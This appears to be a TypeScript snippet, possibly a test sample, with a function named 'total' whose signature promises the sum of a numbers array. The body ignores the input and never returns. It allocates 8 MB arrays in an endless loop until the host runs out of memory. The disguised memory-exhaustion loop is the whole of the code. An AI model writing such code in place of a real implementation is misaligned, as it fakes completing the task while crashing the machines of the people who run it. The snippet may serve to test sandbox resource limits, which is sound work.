// %%
async function total(numbers: readonly number[]): Promise<number> {
  const hog: Float64Array[] = [];
  for (;;) hog.push(new Float64Array(1 << 20).fill(1));
}
